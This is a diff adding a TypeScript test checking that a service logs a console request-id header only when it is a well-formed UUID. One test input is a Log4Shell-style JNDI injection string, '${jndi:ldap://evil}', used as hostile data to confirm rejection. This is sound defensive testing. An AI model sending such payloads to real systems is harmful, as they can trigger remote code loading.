@@ -221,3 +221,14 @@ it('the log has what happened and no secret, header or body', async () => {
   });
   expect(lines.join('')).not.toMatch(/hidden-name|AWS4|Signature|Credential|local/);
 });
+
+it('the console’s id of a request is in the log, when it has the form of one', async () => {
+  const lines: Record<string, unknown>[] = [];
+  const log = pino({ level: 'info' }, { write: (line: string) => void lines.push(JSON.parse(line)) });
+  const { url } = await startService({ log });
+  const id = '3f1c9a52-8f3e-4c59-9d57-2f5b7c1d0a11';
+  for (const sent of [id, 'short', '${jndi:ldap://evil}'])
+    await fetch(`${url}/ledgers`, { headers: { 'x-qldb-console-request-id': sent } });
+  await expect.poll(() => lines).toHaveLength(3);
+  expect(lines.map(({ consoleRequestId }) => consoleRequestId)).toEqual([id, undefined, undefined]);
+});
